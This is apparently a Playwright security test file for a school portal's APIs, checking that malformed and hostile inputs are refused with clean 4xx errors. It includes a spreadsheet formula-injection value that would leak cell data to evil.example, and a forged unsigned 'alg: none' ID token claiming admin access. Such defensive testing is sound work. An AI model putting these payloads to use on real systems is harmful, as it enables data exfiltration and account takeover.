import { expect, test } from '@playwright/test';
import { Caller, INTERNAL_WORDS, healthMs, type Answer } from './hostile-client.js';

/** A refusal in the REST contract's shape, with a fixed text and nothing from inside. */
function cleanRestRefusal(answer: Answer, status: number) {
  expect(answer.status).toBe(status);
  const body = answer.json<{ error: { code: string; message: string } }>();
  expect(Object.keys(body)).toEqual(['error']);
  expect(body.error.message).not.toMatch(INTERNAL_WORDS);
}

test.describe('bad input is a clear 4xx, never a 500', () => {
  test('a null byte in the people filter is refused, naming the field', async () => {
    const admin = await new Caller('127.0.0.2').signIn('admin@demo.school');
    const answer = await admin.graphql('query($name: String) { people(name: $name) { totalCount } }', {
      name: 'Sm\u0000ith',
    });
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'name' });
    expect(answer.errors?.[0]?.message).toMatch(/control characters/i);
  });

  test('a null byte in a name is refused, naming the field, and the name is unchanged', async () => {
    const student = await new Caller('127.0.0.2').signIn('student25@demo.school');
    const answer = await student.graphql(
      'mutation($input: ChangeNameInput!) { changeName(input: $input) { user { firstName } } }',
      { input: { firstName: 'Ev\u0000e', lastName: 'Hacker' } },
    );
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'firstName' });
    const me = await student.graphql('{ me { lastName } }');
    expect(me.data?.me).not.toEqual({ lastName: 'Hacker' });
  });

  test('a would-be spreadsheet formula with a line break cannot become a name', async () => {
    const admin = await new Caller('127.0.0.2').signIn('admin@demo.school');
    const answer = await admin.graphql(
      'mutation($input: CreateAccountsInput!) { createAccounts(input: $input) { created { user { email } } } }',
      {
        input: {
          accounts: [
            {
              firstName: 'Eve',
              lastName: '=HYPERLINK("http://evil.example/?leak="&C2,\n"Click")',
              email: `eve.${Date.now()}@demo.school`,
              roles: ['STUDENT'],
            },
          ],
        },
      },
    );
    expect(answer.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      field: expect.stringMatching(/lastName$/),
    });
  });

  test('single sign-on refuses junk, unsigned and oversized ID tokens and a nonce with a control character, signing nobody in', async () => {
    const caller = new Caller('127.0.0.2');
    const SIGN_IN = 'mutation($input: SsoSignInInput!) { signInWithSso(input: $input) { role } }';
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    // "alg": "none" with the claims an attacker wants: a token no provider signed.
    const unsigned = (nonce: string) =>
      `${part({ alg: 'none', typ: 'JWT' })}.${part({
        iss: 'http://localhost/dev-idp',
        aud: 'science-portal',
        sub: 'x',
        email: 'admin@demo.school',
        email_verified: true,
        nonce,
        iat: 1,
        exp: 9_999_999_999,
      })}.`;
    const tokens = [() => 'junk', unsigned, () => 'x'.repeat(20_000)];
    for (const token of tokens) {
      // Each through a sign-in this caller started, so the token itself is what is judged.
      const started = await caller.graphql('mutation { startSingleSignOn { nonce } }');
      const { nonce } = started.data?.startSingleSignOn as { nonce: string };
      const answer = await caller.graphql(SIGN_IN, { input: { idToken: token(nonce), nonce } });
      expect(answer.errors?.[0]?.extensions?.code).toMatch(/^(UNAUTHENTICATED|BAD_USER_INPUT)$/);
      expect(answer.errors?.[0]?.message).not.toMatch(INTERNAL_WORDS);
    }
    // A control character in the nonce is refused for what it is, whatever the token.
    const nonce = 'n'.repeat(43);
    const withNul = await caller.graphql(SIGN_IN, { input: { idToken: unsigned(nonce), nonce: `${nonce}\u0000` } });
    expect(withNul.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
    expect(withNul.errors?.[0]?.message).toMatch(/control characters/i);
    expect((await caller.send('/api/v1/auth/status')).status).toBe(401);
  });

  test('an Expect header through the /api/v1 proxy is answered normally', async () => {
    const answer = await new Caller('127.0.0.2').send('/api/v1/auth/signin', {
      method: 'POST',
      headers: { 'content-type': 'application/json', expect: '100-continue' },
      body: JSON.stringify({ email: 'nobody@demo.school', password: 'wrong-password' }),
    });
    cleanRestRefusal(answer, 401);
  });

  test('a 10 MB body is refused as too large, in the contract’s shape', async () => {
    const answer = await new Caller('127.0.0.2').send('/api/v1/register', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ schoolName: 'x'.repeat(10 * 1024 * 1024) }),
    });
    cleanRestRefusal(answer, 413);
    expect(await healthMs()).toBeLessThan(1000);
  });

  test('an empty id is a bad id for that field, not a missing route', async () => {
    const admin = await new Caller('127.0.0.2').signIn('admin@demo.school');
    const answer = await admin.graphql('{ user(id: "") { id } }');
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'id' });
    expect(answer.errors?.[0]?.message).not.toMatch(INTERNAL_WORDS);
  });

  test('a cursor past any list is refused, naming the cursor', async () => {
    const admin = await new Caller('127.0.0.2').signIn('admin@demo.school');
    for (const offset of ['1e20', '100000000000000000000']) {
      const after = Buffer.from(`offset:${offset}`).toString('base64url');
      const answer = await admin.graphql('query($after: String) { people(after: $after) { totalCount } }', { after });
      expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'after' });
      expect(answer.errors?.[0]?.message).not.toMatch(INTERNAL_WORDS);
    }
  });

  test('malformed JSON to /graphql gets GraphQL’s error shape', async () => {
    const answer = await new Caller('127.0.0.2').send('/graphql', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"query": "{ me { id } }"',
    });
    expect(answer.status).toBe(400);
    const body = answer.json<{ errors: { message: string; extensions: { code: string } }[] }>();
    expect(body.errors[0]?.extensions.code).toBe('BAD_REQUEST');
    expect(answer.text).not.toMatch(INTERNAL_WORDS);
  });

  test('malformed JSON and a wrong content type to /api/v1 get the contract’s shape', async () => {
    const caller = new Caller('127.0.0.2');
    const broken = await caller.send('/api/v1/auth/signin', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"email": ',
    });
    cleanRestRefusal(broken, 400);
    const wrongType = await caller.send('/api/v1/auth/signin', {
      method: 'POST',
      headers: { 'content-type': 'application/xml' },
      body: '<signin/>',
    });
    cleanRestRefusal(wrongType, 415);
  });

  test('a bad group id fails alone: the valid one beside it still answers', async () => {
    const admin = await new Caller('127.0.0.2').signIn('admin@demo.school');
    const groups = await admin.graphql('{ groups { edges { node { id name } } } }');
    const first = (groups.data?.groups as { edges: { node: { id: string; name: string } }[] }).edges[0]!.node;
    const answer = await admin.graphql(`{ bad: group(id: "abc") { name } good: group(id: "${first.id}") { name } }`);
    expect(answer.data).toEqual({ bad: null, good: { name: first.name } });
    expect(answer.errors).toHaveLength(1);
    expect(answer.errors?.[0]).toMatchObject({ path: ['bad'], extensions: { code: 'BAD_USER_INPUT' } });
  });
});

test.describe('bad input at assignments and attempts is a clear 4xx, never a 500', () => {
  test('a null byte in an assignment name is refused, naming the field', async () => {
    const teacher = await new Caller('127.0.0.2').signIn('teacher1@demo.school');
    const answer = await teacher.graphql(
      'mutation($input: CreateAssignmentInput!) { createAssignment(input: $input) { assignment { id } } }',
      {
        input: {
          name: 'Moon\u0000 phases',
          groupId: '00000000-0000-4000-8000-000000000000',
          startDate: '2099-01-01T08:00',
          endDate: '2099-01-08T08:00',
          activities: [{ questId: 'q-env-001', activityType: 'QUIZ' }],
        },
      },
    );
    expect(answer.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'name' });
  });

  test("junk sent as an attempt is refused in the contract's shape", async () => {
    const student = await new Caller('127.0.0.2').signIn('student01@demo.school');
    const post = (body: string) =>
      student.send('/api/v1/progress', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    cleanRestRefusal(await post('{"assignmentId": "x", "questId": "Q!", "responses": "lots", "seconds": -1}'), 400);
    cleanRestRefusal(await post('{"assignmentId": "x", "questId": "Q!", "answered": 500, "correct": 500}'), 400);
    cleanRestRefusal(await post('not json at all'), 400);
    cleanRestRefusal(
      await post(
        JSON.stringify({
          assignmentId: '00000000-0000-4000-8000-000000000000',
          questId: 'q-env-001',
          responses: Array.from({ length: 1000 }, () => ({ itemId: 'q-env-001.1', answer: 'x'.repeat(100) })),
          seconds: 1,
        }),
      ),
      400,
    );
    const graphql = await student.graphql(
      'mutation($input: AttemptInput!) { recordAttempt(input: $input) { attemptId } }',
      {
        input: {
          assignmentId: '00000000-0000-4000-8000-000000000000',
          questId: 'q-env-001',
          responses: [],
          seconds: -10,
        },
      },
    );
    expect(graphql.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    cleanRestRefusal(await student.send('/api/v1/events/attempts?assignmentId=%00'), 400);
  });
});

test.describe('what every answer of the origin carries', () => {
  for (const [path, accept] of [
    ['/', 'text/html'],
    ['/graphql', 'text/html'],
    ['/api/v1/health', 'application/json'],
  ] as const) {
    test(`${path} sends the security headers`, async () => {
      const answer = await new Caller('127.0.0.2').send(path, { headers: { accept } });
      expect(answer.status).toBe(200);
      expect(answer.headers['content-security-policy']).toMatch(/frame-ancestors 'none'/);
      expect(answer.headers['content-security-policy']).toMatch(/script-src 'self'/);
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
      expect(answer.headers['x-frame-options']).toBe('DENY');
      expect(answer.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    });
  }
});
